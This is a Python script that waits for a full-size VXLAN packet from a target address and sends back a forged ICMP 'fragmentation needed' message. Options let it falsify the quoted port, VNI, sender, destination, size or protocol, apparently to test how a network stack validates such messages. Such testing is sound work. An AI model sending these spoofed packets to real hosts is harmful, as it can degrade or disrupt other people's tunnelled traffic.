"""Sends an ICMP "fragmentation needed" about a VXLAN packet that it saw, true or not.

forge.py VICTIM OWN MTU LIE   prints "listening", waits for a packet of full size, prints "lied"

LIE is what the quotation has wrong: port, vni, guest (the inner frame's sender), remote (the packet's destination), small (the packet is
no larger than the MTU), ping (the packet is an answer to a ping), or truth for nothing.
"""
import socket
import struct
import sys


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


victim, own, mtu, lie = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
tap = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
tap.bind(("u0", 0x0800))
print("listening")
while True:
    packet = bytearray(tap.recv(65535))
    # of one packet alone, not a train of them
    if packet[12:16] == socket.inet_aton(victim) and packet[9] == 17 and packet[22:24] == b"\x12\xb5" and len(packet) == 1500:
        break
quoted = packet[:96]
if lie == "port":
    quoted[20:22] = struct.pack("!H", struct.unpack("!H", quoted[20:22])[0] ^ 0x2000)
elif lie == "vni":
    quoted[34] ^= 1
elif lie == "guest":
    quoted[36 + 11] ^= 1
elif lie == "remote":
    quoted[16:20] = socket.inet_aton("192.0.2.9")
elif lie == "small":
    quoted[2:4] = struct.pack("!H", mtu)
elif lie == "ping":
    quoted[9] = 1
    quoted[20:28] = struct.pack("!BBHHH", 0, 0, 0, 1, 1)
message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + bytes(quoted)
message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP) as icmp:
    icmp.bind((own, 0))
    icmp.sendto(message, (victim, 0))
print("lied")
